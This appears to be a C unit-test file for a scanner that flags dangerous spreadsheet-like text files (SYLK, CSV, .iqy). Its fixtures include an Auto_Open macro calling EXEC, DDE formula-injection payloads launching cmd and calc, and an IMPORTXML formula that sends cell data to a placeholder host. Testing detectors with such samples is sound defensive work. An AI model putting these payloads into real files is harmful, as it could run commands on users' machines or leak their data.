/* test_sylk.c - texts that are sheets: SYLK, files of commas, web queries. */
#include "exam_test.h"

#include "biff/sylk.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static int setup(void **state)
{
	*state = exam_test_new();
	return 0;
}

static int teardown(void **state)
{
	exam_test_free(*state);
	return 0;
}

static void open_text(struct exam_test *t, const char *text, const char *name)
{
	exam_test_open(t, sylk_document, text_span(text), name);
}

static void sylk_macros(void **state)
{
	struct exam_test *t = *state;

	open_text(t, "ID;PWXL;N;E\nP;PGeneral\nO;L;E;D;V0;K47\nNN;NAuto_Open;ER1C1\n"
		     "C;Y1;X1;KFALSE;EEXEC(CHAR(99)&\"alc;x.exe\")\nC;Y2;KTRUE;EHALT()\nE\n", "a.slk");
	assert_true(exam_found(&t->exam, FINDING_XLM));
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "Auto_Open"));
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "EXEC(calc;x.exe)"));
	open_text(t, "ID;PWXL;N;E\r\nO;L;D;V0\r\nC;Y1;X1;K1;ESUM(R1C1:R2C2)\r\nC;Y1;X2;K\"EXEC(\"\r\nE\r\n", "a.slk");
	assert_int_equal(t->exam.found_count, 0);
}

static void sylk_dde(void **state)
{
	struct exam_test *t = *state;

	open_text(t, "ID;P\nC;X1;Y1;K0;Ecmd|'/C calc'!A0\nE\n", "a.slk");
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd /C calc"));
}

static void commas_with_commands(void **state)
{
	static const char *const lines[] = { "=cmd|'/k \\..\\..\\Windows\\System32\\calc.exe'!A0",
					     "name,\"=cmd|'/c calc'!A0\",2",
					     "a;b;-2+3+cmd|'/C calc'!A0",
					     "@SUM(1,1)*cmd|' /C calc'!A0",
					     "x\t+MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''" };
	struct exam_test *t = *state;

	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		open_text(t, lines[i], "a.csv");
		if (!exam_found(&t->exam, FINDING_DDE_COMMAND))
			fail_msg("%s", lines[i]);
	}
	open_text(t, "=other|'topic'!A1", "a.csv");
	assert_true(exam_test_found(t, FINDING_DDE, "other topic"));
}

static void commas_of_offices(void **state)
{
	static const char *const lines[] = { "=RSS|'8306.T'!price", "- yes|no! (maybe),5", "+81 3 (1234)|5678,x",
					     "name | address (home),=SUM(A1|A2)", "text,cmd|'/c calc'!A0" };
	struct exam_test *t = *state;

	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		open_text(t, lines[i], "a.csv");
		if (exam_found(&t->exam, FINDING_DDE) || exam_found(&t->exam, FINDING_DDE_COMMAND))
			fail_msg("%s", lines[i]);
	}
}

static void commas_with_links(void **state)
{
	struct exam_test *t = *state;

	open_text(t, "1,\"=HYPERLINK(\"\"https://www.example/\"\",\"\"here\"\")\"\n", "a.csv");
	assert_non_null(strstr(t->text, "https://www.example/"));
	open_text(t, "=HYPERLINK(\"https://www.example/a\",\"here\")", "a.csv");
	assert_true(exam_test_url(t, "https://www.example/a"));
	assert_int_equal(t->exam.found_count, 0);
	open_text(t, "=IMPORTXML(CONCAT(\"https://files.example/?\",A1),\"//a\")", "a.csv");
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "https://files.example/?"));
}

static void queries(void **state)
{
	struct exam_test *t = *state;

	open_text(t, "WEB\r\n1\r\nhttp://files.example/2.dat\r\n2\r\n3\r\n", "a.iqy");
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "http://files.example/2.dat"));
	open_text(t, "WEB\r\n1\r\nhttp://intranet/list\r\n", "a.iqy");
	assert_false(exam_found(&t->exam, FINDING_REMOTE_FILE));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(sylk_macros, setup, teardown),
		cmocka_unit_test_setup_teardown(sylk_dde, setup, teardown),
		cmocka_unit_test_setup_teardown(commas_with_commands, setup, teardown),
		cmocka_unit_test_setup_teardown(commas_of_offices, setup, teardown),
		cmocka_unit_test_setup_teardown(commas_with_links, setup, teardown),
		cmocka_unit_test_setup_teardown(queries, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
